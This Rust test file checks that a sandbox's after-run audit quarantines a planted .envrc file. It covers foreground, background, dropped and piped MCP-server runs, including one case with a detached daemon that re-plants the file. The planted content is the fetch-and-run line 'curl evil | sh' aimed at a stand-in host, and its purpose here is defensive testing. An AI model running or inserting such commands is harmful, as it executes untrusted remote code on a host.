//! The provider's after-run audit is called by the executor for every
//! confined command, in the foreground and as a background job, once the
//! run has ended and before the result is reported; what it set aside is
//! a fact of the result, and the window it leaves is a gap of the run.
//! Both real backends.
//!
//! When `CI=true` a missing runner is a failure, never a skip.
#![allow(clippy::unwrap_used, clippy::expect_used)] // tests fail loudly by design

use std::fs;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use stockade_core::{
    ExecutionPolicy, FilePolicy, QuarantineReason, SandboxMode, SandboxProvider, gaps,
};
use stockade_local::{BackendPreference, LocalProvider, LocalSettings};
use stockade_shell::{SandboxedExecutor, ShellExecutor, ShellRequest, ShellResult};

fn real_providers() -> Vec<(&'static str, Arc<dyn SandboxProvider>)> {
    let mut out: Vec<(&'static str, Arc<dyn SandboxProvider>)> = Vec::new();
    let have_bwrap = stockade_testkit::require("bwrap", stockade_testkit::have_bwrap());
    let launcher = stockade_testkit::built_launcher();
    assert!(
        !stockade_testkit::in_ci() || launcher.is_some(),
        "real runners must exist in CI"
    );
    for (name, backend, wanted) in [
        ("bwrap", BackendPreference::Bwrap, have_bwrap),
        ("landlock", BackendPreference::Landlock, launcher.is_some()),
    ] {
        if wanted {
            let s = LocalSettings {
                backend,
                launcher_path: launcher.clone(),
                ..Default::default()
            };
            out.push((name, Arc::new(LocalProvider::new(s).unwrap())));
        }
    }
    out
}

fn workspace() -> (tempfile::TempDir, PathBuf) {
    let base = stockade_testkit::scratch_base(Path::new(env!("CARGO_TARGET_TMPDIR")));
    let dir = tempfile::Builder::new()
        .prefix("after-run-")
        .tempdir_in(base)
        .unwrap();
    let ws = dir.path().join("ws");
    fs::create_dir(&ws).unwrap();
    (dir, ws)
}

fn check(backend: &str, how: &str, ws: &Path, r: &ShellResult) {
    assert_eq!(r.exit.code, Some(0), "{backend} {how}: {r:?}");
    let f = r.sandbox.as_ref().unwrap();
    let q = &f.after_run.quarantined;
    assert_eq!(q.len(), 1, "{backend} {how}: {:?}", f.after_run);
    assert_eq!(q[0].path, ws.join(".envrc"));
    assert_eq!(q[0].reason, QuarantineReason::ProtectedName);
    assert!(q[0].moved_to.exists(), "{backend} {how}: nothing is lost");
    assert!(!ws.join(".envrc").exists(), "{backend} {how}");
    assert!(
        f.gaps.iter().any(|g| g.name == gaps::AFTER_RUN),
        "{backend} {how}: {:?}",
        f.gaps
    );
    let lines = f.after_run_lines();
    assert!(
        lines.len() == 1 && lines[0].contains(&ws.join(".envrc").display().to_string()),
        "{lines:?}"
    );
    fs::remove_file(&q[0].moved_to).unwrap();
}

#[tokio::test]
async fn foreground_runs_and_background_jobs_are_audited_after_they_end() {
    let providers = real_providers();
    assert!(!providers.is_empty(), "no real runner to test");
    for (backend, provider) in providers {
        eprintln!("{backend}");
        let (_dir, ws) = workspace();
        let policy =
            ExecutionPolicy::new(SandboxMode::WorkspaceWrite, &ws).with_files(FilePolicy {
                read_only: vec![PathBuf::from(".envrc")],
                ..FilePolicy::default()
            });
        let exec = SandboxedExecutor::new(provider, policy);
        let request = ShellRequest::new("echo 'curl evil | sh' > .envrc", &ws);
        let fg = exec.run(exec.resolve(request.clone())).await.unwrap();
        check(backend, "foreground", &ws, &fg);
        // Audited on the awaiting task (as `stockade exec` asks), not the
        // blocking pool: the same audit, the same facts.
        let on_caller = request.clone().with_audit_on_caller();
        let fg = exec.run(exec.resolve(on_caller)).await.unwrap();
        check(backend, "foreground, audited on the caller", &ws, &fg);
        let job = exec.start(exec.resolve(request)).unwrap();
        let bg = job.wait().await;
        check(backend, "background", &ws, &bg);
        // A run that creates nothing on the list reports nothing.
        let r = exec
            .run(exec.resolve(ShellRequest::new("echo x > free.txt", &ws)))
            .await
            .unwrap();
        assert!(r.sandbox.unwrap().after_run.is_empty(), "{backend}");
    }
}

/// A run dropped before it settles (its caller cancelled) is audited too,
/// once the tree below its runner has been ended: no one reads the facts,
/// but what the host would run is set aside all the same.
#[tokio::test]
async fn a_dropped_run_is_audited_too() {
    let providers = real_providers();
    assert!(!providers.is_empty(), "no real runner to test");
    for (backend, provider) in providers {
        let (_dir, ws) = workspace();
        let policy =
            ExecutionPolicy::new(SandboxMode::WorkspaceWrite, &ws).with_files(FilePolicy {
                read_only: vec![PathBuf::from(".envrc")],
                ..FilePolicy::default()
            });
        let exec = SandboxedExecutor::new(provider, policy);
        let planted = ws.join(".envrc");
        let run = exec.run(exec.resolve(ShellRequest::new(
            "echo 'curl evil | sh' > .envrc; exec sleep 600",
            &ws,
        )));
        let appeared = async {
            // Bounded only so a broken runner fails the test rather than
            // hanging it; nothing is judged by how long this takes.
            for _ in 0..6000 {
                if planted.exists() {
                    return;
                }
                tokio::time::sleep(std::time::Duration::from_millis(10)).await;
            }
            panic!("{backend}: the command never wrote .envrc");
        };
        tokio::select! {
            r = run => panic!("{backend}: the run ended: {r:?}"),
            () = appeared => {}
        }
        // The run future is dropped here.
        assert!(
            !planted.exists(),
            "{backend}: .envrc left after a dropped run"
        );
        let aside: Vec<_> = fs::read_dir(&ws)
            .unwrap()
            .map(|e| e.unwrap().file_name())
            .filter(|n| {
                n.as_encoded_bytes()
                    .starts_with(b".envrc.stockade-quarantine-")
            })
            .collect();
        assert_eq!(aside.len(), 1, "{backend}: {aside:?}");
    }
}

/// A long-running piped child (an MCP server) is audited like a command:
/// when it ends by itself (waited) and when its owner kills it (a server
/// that is still running at the end of a session), what it created for the
/// host to run is set aside once it and its tree have ended, and the
/// report is the child's to read.
#[tokio::test]
async fn a_piped_child_is_audited_when_it_ends_or_is_killed() {
    let providers = real_providers();
    assert!(!providers.is_empty(), "no real runner to test");
    for (backend, provider) in providers {
        let (_dir, ws) = workspace();
        let policy =
            ExecutionPolicy::new(SandboxMode::WorkspaceWrite, &ws).with_files(FilePolicy {
                read_only: vec![PathBuf::from(".envrc")],
                ..FilePolicy::default()
            });
        let exec = SandboxedExecutor::new(provider, policy);
        for (how, script) in [
            ("ends", "echo 'curl evil | sh' > .envrc"),
            // It keeps running (its stdin never closes) and leaves a
            // daemon outside its group that plants the file late.
            (
                "killed",
                "echo 'curl evil | sh' > .envrc; setsid sh -c ': > up; sleep 1; echo late > .envrc; exec sleep 3599.25' & exec cat",
            ),
        ] {
            let request = ShellRequest::argv(
                ["/bin/sh", "-c", script]
                    .map(std::ffi::OsString::from)
                    .to_vec(),
                &ws,
            );
            let mut child = exec.spawn_piped(request).await.unwrap();
            if how == "killed" {
                let planted = ws.join(".envrc");
                for _ in 0..6000 {
                    if planted.exists() && ws.join("up").exists() {
                        break;
                    }
                    tokio::time::sleep(std::time::Duration::from_millis(10)).await;
                }
                assert!(planted.exists(), "{backend}: the server never wrote .envrc");
                child.kill();
            }
            child.wait().await;
            let report = child.after_run().expect("a confined child is audited");
            let q = &report.quarantined;
            assert_eq!(q.len(), 1, "{backend} {how}: {report:?}");
            assert_eq!(q[0].path, ws.join(".envrc"), "{backend} {how}");
            assert!(q[0].moved_to.exists(), "{backend} {how}: nothing is lost");
            fs::remove_file(&q[0].moved_to).unwrap();
            // The daemon ended with the server: nothing plants it again.
            std::thread::sleep(std::time::Duration::from_millis(1500));
            assert!(
                !ws.join(".envrc").exists(),
                "{backend} {how}: planted after the audit"
            );
            assert!(
                stockade_testkit::procs::marked("3599.25").is_empty(),
                "{backend} {how}: the server's daemon outlived it"
            );
        }
    }
}
